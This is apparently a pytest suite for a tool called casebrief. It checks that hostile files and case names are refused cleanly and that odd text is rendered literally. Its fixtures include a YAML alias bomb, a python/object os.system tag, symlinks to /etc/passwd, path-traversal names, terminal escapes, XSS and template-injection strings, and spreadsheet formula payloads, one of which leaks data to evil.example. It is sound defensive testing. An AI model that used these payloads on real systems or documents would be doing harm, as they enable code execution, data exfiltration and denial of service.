"""Hostile and broken input: every one gives a clean error (or, for odd but valid text, a correct brief).

Each hostile input is a copy of the mini fixture case with one thing wrong, across every table, case.yaml,
datapackage.json, the files themselves and the case name. Through the real command line it must give:
exit code 2, a message naming the file and the broken rule, no traceback, no control character reaching
the terminal, within a time limit, and no file written. Valid but odd text (right-to-left, combining marks,
Hangul, emoji, HTML/JS/template/Markdown injection, spreadsheet formulas) must build a brief that shows it
as literal text and still passes the independent checkers.

Spreadsheet formulas (``=HYPERLINK(...)``, ``+``, ``-``, ``@``): casebrief exports no CSV, so a formula in
a cell is data, shown verbatim in the HTML and PDF where nothing evaluates it. Should an export be added,
it must neutralise such cells (OWASP: prefix a cell that starts with ``= + - @``, tab or carriage return
with a single quote) — ``test_formula_text_is_inert_in_the_brief`` shows why nothing else is needed today.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import json
import os
import re
import signal
import stat
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from analysis import cli
from analysis.case import load_case
from analysis.errors import CasebriefError

sys.path.insert(0, str(Path(__file__).resolve().parent))
from tools import checks  # noqa: E402

ROOT = Path(__file__).resolve().parents[1]
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
TIME_LIMIT = 60  # seconds per hostile input: the slowest (100,000 rows) is refused in a few


# -- editing a copy of the mini case ------------------------------------------------------------------


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def _write(path: Path, rows: list[list[str]]) -> None:
    with open(path, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerows(rows)


def cell(table: str, row: int, column: str, value: str) -> Callable[[Path], None]:
    """An edit setting one cell (``row`` as a spreadsheet numbers it: the header is row 1)."""

    def edit(case: Path) -> None:
        path = case / f"{table}.csv"
        rows = _rows(path)
        rows[row - 1][rows[0].index(column)] = value
        _write(path, rows)

    return edit


def raw(file: str, data: bytes) -> Callable[[Path], None]:
    def edit(case: Path) -> None:
        (case / file).write_bytes(data)

    return edit


def append(file: str, text: str) -> Callable[[Path], None]:
    def edit(case: Path) -> None:
        with open(case / file, "a", encoding="utf-8", newline="") as fh:
            fh.write(text)

    return edit


def yaml_text(transform: Callable[[str], str]) -> Callable[[Path], None]:
    def edit(case: Path) -> None:
        path = case / "case.yaml"
        path.write_text(transform(path.read_text(encoding="utf-8")), encoding="utf-8")

    return edit


def symlink(file: str, target: str) -> Callable[[Path], None]:
    def edit(case: Path) -> None:
        (case / file).unlink()
        os.symlink(target, case / file)

    return edit


def fifo(file: str) -> Callable[[Path], None]:
    def edit(case: Path) -> None:
        (case / file).unlink()
        os.mkfifo(case / file)

    return edit


def directory(file: str) -> Callable[[Path], None]:
    def edit(case: Path) -> None:
        (case / file).unlink()
        (case / file).mkdir()

    return edit


def many_rows(table: str, n: int) -> Callable[[Path], None]:
    def edit(case: Path) -> None:
        path = case / f"{table}.csv"
        rows = _rows(path)
        header, first = rows[0], rows[1]
        out = [header, *rows[1:]]
        for i in range(n - (len(rows) - 1)):
            r = list(first)
            r[0] = f"X{i}"
            out.append(r)
        _write(path, out)

    return edit


def datapackage_path(table: str, path: str) -> Callable[[Path], None]:
    def edit(case: Path) -> None:
        dp = case / "datapackage.json"
        desc = json.loads(dp.read_text(encoding="utf-8"))
        for res in desc["resources"]:
            if res["name"] == table:
                res["path"] = path
        dp.write_text(json.dumps(desc), encoding="utf-8")

    return edit


def nest(depth: int) -> Callable[[str], str]:
    return lambda text: text + "\nextra: " + "[" * depth + "]" * depth + "\n"


ALIAS_BOMB = """
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
"""
MARKER = Path("/tmp/casebrief-hostile-yaml-ran")


@dataclass(frozen=True)
class Hostile:
    """A hostile input: the edit making it from the mini case, and what the error must mention."""

    edit: Callable[[Path], None]
    file: str  # the file the message names
    words: str  # words of the rule, as the message says them


HOSTILE: dict[str, Hostile] = {
    # wrong types and values, one or more per table
    "sources: date in words": Hostile(cell("sources", 2, "published", "yesterday"), "sources.csv",
                                      "not a date"),
    "sources: reliability outside the enum": Hostile(cell("sources", 2, "reliability", "Z"), "sources.csv",
                                                     "is not one of"),
    "actors: unknown actor type": Hostile(cell("actors", 2, "type", "alien"), "actors.csv", "is not one of"),
    "issues: duplicate id": Hostile(cell("issues", 3, "id", "transfer"), "issues.csv", "duplicate"),
    "events: impossible month": Hostile(cell("events", 2, "date", "2025-13-01"), "events.csv", "date"),
    "events: boolean as a word": Hostile(cell("events", 2, "key", "maybe"), "events.csv", "true or false"),
    "positions: stance as a word": Hostile(cell("positions", 2, "stance", "two"), "positions.csv",
                                           "whole number"),
    "positions: 400-digit salience": Hostile(cell("positions", 2, "salience", "9" * 400), "positions.csv",
                                             "salience"),
    "positions: stance 1e309 (infinity)": Hostile(cell("positions", 2, "stance", "1e309"), "positions.csv",
                                                  "whole number"),
    "legal_provisions: empty id in a list": Hostile(cell("legal_provisions", 2, "source_ids", "S5;;S1"),
                                                    "legal_provisions.csv", "list of ids"),
    "quotes: unknown speaker": Hostile(cell("quotes", 2, "speaker", "nobody"), "quotes.csv",
                                       "is not an id in actors.csv"),
    "disputes: about an unknown table": Hostile(cell("disputes", 2, "about_table", "nowhere"), "disputes.csv",
                                                "about_table"),
    "dispute_claims: claim 1.5": Hostile(cell("dispute_claims", 2, "claim", "1.5"), "dispute_claims.csv",
                                         "whole number"),
    # size
    "events: a 10 MB text cell": Hostile(cell("events", 2, "description", "x" * 10_000_000), "events.csv",
                                         "too long"),
    "events: 100,000 rows": Hostile(many_rows("events", 100_000), "events.csv", "rows"),
    # bytes and characters
    "actors: ANSI escape and bell in a name": Hostile(cell("actors", 2, "name", "State \x1b[31mA\x07"),
                                                      "actors.csv", "control character U+001B"),
    "events: C1 control character": Hostile(cell("events", 3, "title", "Ministry\x85\x9bcomments"),
                                            "events.csv", "control character U+0085"),
    "quotes: NUL byte": Hostile(raw("quotes.csv", b"id,speaker\x00,text\n"), "quotes.csv", "NUL byte"),
    "sources: Latin-1 encoded": Hostile(raw("sources.csv", "id,publisher\nS1,Caf\xe9\n".encode("latin-1")),
                                        "sources.csv", "not UTF-8"),
    "events: UTF-16 encoded": Hostile(raw("events.csv", "id,date\n".encode("utf-16")), "events.csv",
                                      "UTF-16"),
    "positions: a PNG image": Hostile(raw("positions.csv", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(256)),
                                      "positions.csv", "positions.csv"),
    "issues: unterminated quote": Hostile(append("issues.csv", 'other,"Open quote,never closed\n'),
                                          "issues.csv", "issues.csv"),
    "legal_provisions: ragged row": Hostile(append("legal_provisions.csv", "L3,x,y\n"),
                                            "legal_provisions.csv", "cells but the header has"),
    "events: empty file": Hostile(raw("events.csv", b""), "events.csv", "empty"),
    # files that are not what they seem
    "events.csv is a symlink to /etc/passwd": Hostile(symlink("events.csv", "/etc/passwd"), "events.csv",
                                                      "symbolic link"),
    "case.yaml is a symlink to /etc/passwd": Hostile(symlink("case.yaml", "/etc/passwd"), "case.yaml",
                                                     "symbolic link"),
    "datapackage.json is a symlink out of the case": Hostile(
        symlink("datapackage.json", str(ROOT / "src/analysis/schema/datapackage.json")), "datapackage.json",
        "symbolic link"),
    "actors.csv is a symlink to /dev/zero": Hostile(symlink("actors.csv", "/dev/zero"), "actors.csv",
                                                    "actors.csv"),
    "events.csv is a named pipe": Hostile(fifo("events.csv"), "events.csv", "events.csv"),
    "events.csv is a folder": Hostile(directory("events.csv"), "events.csv", "missing"),
    "datapackage.json points a table at /etc/passwd": Hostile(datapackage_path("events", "/etc/passwd"),
                                                               "datapackage.json", "path"),
    "datapackage.json points a table at the web": Hostile(
        datapackage_path("sources", "https://example.invalid/sources.csv"), "datapackage.json", "path"),
    "datapackage.json nested 100,000 deep": Hostile(raw("datapackage.json", b"[" * 100_000 + b"]" * 100_000),
                                                    "datapackage.json", "JSON"),
    # case.yaml
    "case.yaml: billion laughs (anchors and aliases)": Hostile(yaml_text(lambda t: t + ALIAS_BOMB),
                                                               "case.yaml", "anchors and aliases"),
    "case.yaml: python object tag": Hostile(
        yaml_text(lambda t: t + f'\nextra: !!python/object/apply:os.system ["touch {MARKER}"]\n'),
        "case.yaml", "YAML"),
    "case.yaml: nested 100,000 deep": Hostile(yaml_text(nest(100_000)), "case.yaml", "YAML"),
    "case.yaml: terminal escape in the title": Hostile(
        yaml_text(lambda t: t.replace("title: Mini fixture case", 'title: "Mini\\x1b]0;owned\\x07 case"')),
        "case.yaml", "control character U+001B"),
    "case.yaml: 2 MB": Hostile(yaml_text(lambda t: t + "\n# " + "x" * 2_000_000 + "\n"), "case.yaml",
                               "too large"),
    "case.yaml: a list, not a mapping": Hostile(raw("case.yaml", b"- just\n- a list\n"), "case.yaml",
                                                "mapping"),
    "case.yaml: judgements as a string, period as a number": Hostile(
        yaml_text(lambda t: t.replace("period: {start: 2025-01-01, end: 2025-12-31}", "period: 2025")
                  .replace("key_judgements:\n", "key_judgements: none\nold_judgements:\n")),
        "case.yaml", "period"),
    "case.yaml: tab indentation": Hostile(yaml_text(lambda t: t.replace("  high:", "\thigh:")), "case.yaml",
                                          "not valid YAML"),
    "case.yaml: invalid UTF-8": Hostile(raw("case.yaml", b"title: caf\xe9\n"), "case.yaml", "UTF-8"),
}


class Hung(BaseException):
    """Raised by the alarm: a BaseException, so the CLI's catch-all cannot turn a hang into exit 1."""


@contextlib.contextmanager
def time_limit(seconds: int):
    def _alarm(signum, frame):
        raise Hung(f"no answer after {seconds} s")

    old = signal.signal(signal.SIGALRM, _alarm)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)


def run_cli(argv: list[str], capsys) -> tuple[int, str, str, float]:
    started = time.perf_counter()
    with time_limit(TIME_LIMIT):
        code = cli.main(argv)
    out, err = capsys.readouterr()
    return code, out, err, time.perf_counter() - started


def assert_clean_error(code: int, out: str, err: str) -> None:
    assert code == 2, f"exit {code}, expected 2:\n{out}\n{err}"
    assert "Traceback" not in out + err and "unexpected error" not in err, err
    assert not CONTROL.search(out + err), f"a control character reached the terminal: {err!r}"


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_input_gives_a_clean_error(name, case_copy, capsys):
    hostile = HOSTILE[name]
    case = case_copy()
    hostile.edit(case)
    MARKER.unlink(missing_ok=True)
    code, out, err, seconds = run_cli(["validate", str(case)], capsys)
    assert_clean_error(code, out, err)
    assert hostile.file in err and hostile.words in err, f"want {hostile.file} and {hostile.words!r}:\n{err}"
    assert not MARKER.exists(), "case.yaml ran code"


# The loader the notebooks use runs the same checks (and then reads with pandas): a sample of each kind.
LOADER_SAMPLE = [
    "positions: 400-digit salience", "events: a 10 MB text cell", "actors: ANSI escape and bell in a name",
    "events.csv is a symlink to /etc/passwd", "events.csv is a named pipe",
    "case.yaml: billion laughs (anchors and aliases)", "case.yaml: python object tag",
]


@pytest.mark.parametrize("name", LOADER_SAMPLE)
def test_loader_raises_our_error(name, case_copy):
    case = case_copy()
    HOSTILE[name].edit(case)
    MARKER.unlink(missing_ok=True)
    with time_limit(TIME_LIMIT), pytest.raises(CasebriefError) as err:
        load_case(case)
    assert HOSTILE[name].file in str(err.value)
    assert not MARKER.exists()


def _contents(case: Path) -> tuple:
    """What a case folder holds, read without following links or opening pipes: equal means same input."""
    found = []
    for path in sorted(case.rglob("*")):
        mode = os.lstat(path).st_mode
        if stat.S_ISLNK(mode):
            what = ("link", os.readlink(path))
        elif stat.S_ISFIFO(mode):
            what = ("pipe",)
        elif stat.S_ISDIR(mode):
            what = ("folder",)
        else:
            what = ("file", hashlib.sha256(path.read_bytes()).hexdigest())
        found.append((path.relative_to(case).as_posix(), *what))
    return tuple(found)


def test_there_are_at_least_25_hostile_inputs(case_copy):
    """The clean-error test runs at least 25 distinct inputs, each really different from the mini case."""
    exercised = [name for mark in test_hostile_input_gives_a_clean_error.pytestmark
                 if mark.name == "parametrize" for name in mark.args[1]]
    mini = _contents(case_copy(name="unedited"))
    seen: dict[tuple, str] = {}
    for i, name in enumerate(exercised):
        case = case_copy(name=f"hostile-{i}")
        HOSTILE[name].edit(case)
        contents = _contents(case)
        assert contents != mini, f"{name!r} leaves the mini case as it was"
        assert contents not in seen, f"{name!r} is the same input as {seen.get(contents)!r}"
        seen[contents] = name
    assert len(seen) >= 25, f"only {len(seen)} distinct hostile inputs reach the command line"


# -- case names that try to leave data/cases/ ------------------------------------------------------------


@pytest.fixture
def cases_root(tmp_path, monkeypatch, case_copy) -> Path:
    """A CASEBRIEF_CASES folder holding the mini case, a link out of it, and a secret beside it."""
    case_copy()  # tmp_path/cases/mini
    root = tmp_path / "cases"
    outside = tmp_path / "outside"
    outside_case = case_copy(name="../outside")  # a valid case, but not under the cases folder
    meta = outside_case / "case.yaml"  # its id follows its folder's name, as every case's must
    text = meta.read_text(encoding="utf-8").replace("\nid: mini\n", "\nid: outside\n")
    meta.write_text(text, encoding="utf-8")
    os.symlink(outside, root / "escape")
    monkeypatch.setenv("CASEBRIEF_CASES", str(root))
    return root


ESCAPING_NAMES = {
    "../outside": "'..' is not allowed",
    "../../../../etc": "'..' is not allowed",
    "mini/../../outside": "'..' is not allowed",
    "escape": "outside",  # a symlink in the cases folder that points out of it
    "MINI": "lowercase letters",
    "m\u0456ni": "lowercase letters",  # Cyrillic i
    "mini\n": "unknown case",
    "x" * 10_000: "lowercase letters",
    "-rf": "lowercase letters",
    "/etc": "no datapackage.json",  # an explicit path is the user's own choice, but must be a case
}


@pytest.mark.parametrize("name", list(ESCAPING_NAMES), ids=lambda n: repr(n[:20]))
def test_case_names_never_leave_the_cases_folder(name, cases_root, capsys):
    code, out, err, _ = run_cli(["validate", "--", name], capsys)
    assert_clean_error(code, out, err)
    assert ESCAPING_NAMES[name] in err, err


def test_explicit_path_to_a_case_outside_is_allowed(cases_root, capsys):
    code, out, err, _ = run_cli(["validate", str(cases_root.parent / "outside")], capsys)
    assert code == 0, err


# -- through the build, as a real process: nothing written, nothing half-written --------------------------

BUILD_HOSTILE = [
    "case.yaml: billion laughs (anchors and aliases)",
    "case.yaml: python object tag",
    "case.yaml: nested 100,000 deep",
    "case.yaml: tab indentation",
    "case.yaml is a symlink to /etc/passwd",
    "case.yaml: a list, not a mapping",
    "events.csv is a symlink to /etc/passwd",
    "events.csv is a named pipe",
    "events: a 10 MB text cell",
    "actors: ANSI escape and bell in a name",
]


def casebrief(*args: str, env: dict, timeout: float = 300) -> subprocess.CompletedProcess:
    exe = Path(sys.executable).with_name("casebrief")
    cmd = [str(exe)] if exe.exists() else [sys.executable, "-m", "analysis"]
    return subprocess.run([*cmd, *args], cwd=ROOT, env=env, capture_output=True, text=True, timeout=timeout)


@pytest.mark.slow
@pytest.mark.parametrize("name", BUILD_HOSTILE)
@pytest.mark.e2e
def test_hostile_input_stops_the_build_cleanly(name, case_copy, tmp_path):
    case = case_copy()
    HOSTILE[name].edit(case)
    MARKER.unlink(missing_ok=True)
    reports = tmp_path / "reports"
    env = {**os.environ, "CASEBRIEF_CASES": str(case.parent), "CASEBRIEF_REPORTS": str(reports)}
    proc = casebrief("build", "--case", str(case), "--format", "html", env=env, timeout=TIME_LIMIT * 2)
    assert_clean_error(proc.returncode, proc.stdout, proc.stderr)
    assert HOSTILE[name].file in proc.stderr, proc.stderr
    assert not MARKER.exists(), "case.yaml ran code"
    written = [p for p in reports.rglob("*") if p.is_file() and p.suffix in (".html", ".pdf", ".json")]
    assert not written, f"a refused case still wrote {written}"


# -- odd but valid text: a correct brief ---------------------------------------------------------------

ODD = {
    # (table, spreadsheet row, column): text; each cell is one the analyst brief shows
    ("events", 2, "title"): "فرار بوده است — עברית \u202eevil\u202c after override",
    ("events", 2, "description"): "Zalgo: Z\u0351\u0368\u0304a\u0306l\u0308g\u030ao\u0327, e\u0301 vs \u00e9",
    ("events", 5, "title"): "Emoji 👩🏽‍⚖️ 🇰🇷 🇺🇦 and a ZWJ family 👨‍👩‍👧",
    ("actors", 5, "name"): "리정호 (Ri Jong-ho) 백영민",
    # "I want to go to 각국", the name in conjoining jamo (NFD), as some Korean input methods write it
    ("positions", 4, "evidence"): "저는 \u1100\u1161\u11a8\u1100\u116e\u11a8에 가고 싶습니다",
    ("events", 4, "title"): "<script>alert('x')</script> {{ 7*7 }} ${7*7}",
    ("events", 4, "description"): "<img src=x onerror=alert(1)> [a](javascript:alert(2)) **bold** <!-- c --> "
                                  "$\\input{/etc/passwd}$ {% include '/etc/passwd' %}",
    ("sources", 2, "title"): '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
    ("positions", 3, "evidence"): "+cmd|' /C calc'!A0",
    ("positions", 6, "evidence"): "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture(scope="module")
def odd_build(tmp_path_factory) -> dict:
    import shutil

    base = tmp_path_factory.mktemp("odd")
    case = base / "cases" / "mini"
    shutil.copytree(ROOT / "tests" / "fixtures" / "cases" / "mini", case)
    for (table, row, column), value in ODD.items():
        cell(table, row, column, value)(case)
    reports = base / "reports"
    env = {**os.environ, "CASEBRIEF_CASES": str(case.parent), "CASEBRIEF_REPORTS": str(reports)}
    proc = casebrief("build", "--case", str(case), "--audience", "analyst,public", env=env)
    assert proc.returncode == 0, f"{proc.stdout}\n{proc.stderr}"
    out = reports / "mini"
    return {"html": sorted(out.glob("*.html")), "pdf": sorted(out.glob("*.pdf")), "dir": out}


def _html_text(path: Path) -> str:
    from html.parser import HTMLParser

    parts: list[str] = []

    class P(HTMLParser):
        skip = 0

        def handle_starttag(self, tag, attrs):
            self.skip += tag in ("script", "style", "head")

        def handle_endtag(self, tag):
            self.skip -= tag in ("script", "style", "head") and self.skip > 0

        def handle_data(self, data):
            if not self.skip:
                parts.append(data)

    P(convert_charrefs=True).feed(path.read_text(encoding="utf-8"))
    return "".join(parts)


def _flat(text: str) -> str:
    import unicodedata

    return re.sub(r"\s+", "", unicodedata.normalize("NFC", text))


@pytest.mark.slow
@pytest.mark.e2e
def test_odd_text_reaches_the_brief_literally(odd_build):
    analyst = next(p for p in odd_build["html"] if "analyst" in p.name)
    html = analyst.read_text(encoding="utf-8")
    assert "<script>alert" not in html and "<img src=x" not in html, "markup from the data reached the page"
    text = _flat(_html_text(analyst))
    missing = [v for v in ODD.values() if _flat(v) not in text]
    assert not missing, f"not shown literally in {analyst.name}: {missing}"


@pytest.mark.slow
@pytest.mark.tools
def test_odd_text_reaches_the_pdf_text(odd_build):
    """Copying text out of the PDF gives the data back: no box or stand-in for a glyph the fonts lack."""
    pdf = next(p for p in odd_build["pdf"] if "analyst" in p.name)
    text = _flat(checks.pdftotext(pdf, raw=True))
    # a right-to-left override reorders what is drawn, so the PDF holds that text in visual order
    expected = [v for v in ODD.values() if "\u202e" not in v] + ["فرار", "بوده", "עברית"]
    missing = [v for v in expected if _flat(v) not in text]
    assert not missing, f"{pdf.name}: not in the PDF's text: {missing}"


@pytest.mark.slow
@pytest.mark.tools
def test_odd_text_brief_passes_the_checkers(odd_build):
    errors = checks.vnu(odd_build["html"])
    assert not errors, [m["message"] for m in errors[:10]]
    report = checks.axe(odd_build["html"])
    for page in report["pages"]:
        name = Path(page["file"]).name
        assert not page["requests"], f"{name}: injected markup made a request: {page['requests']}"
        assert not page["consoleErrors"] and not page["pageErrors"], (name, page["consoleErrors"])
        bad = [v["id"] for v in page["violations"] if v["impact"] in ("serious", "critical")]
        assert not bad, f"{name}: {bad}"
    for pdf in odd_build["pdf"]:
        code, out = checks.qpdf_check(pdf)
        assert code == 0, out
        assert all(f["emb"] == "yes" for f in checks.pdffonts(pdf)), f"{pdf.name}: a font is not embedded"


@pytest.mark.slow
@pytest.mark.e2e
def test_formula_text_is_inert_in_the_brief(odd_build):
    for page in odd_build["html"]:
        html = page.read_text(encoding="utf-8")
        assert 'href="https://evil.example' not in html, f"{page.name}: a formula became a link"
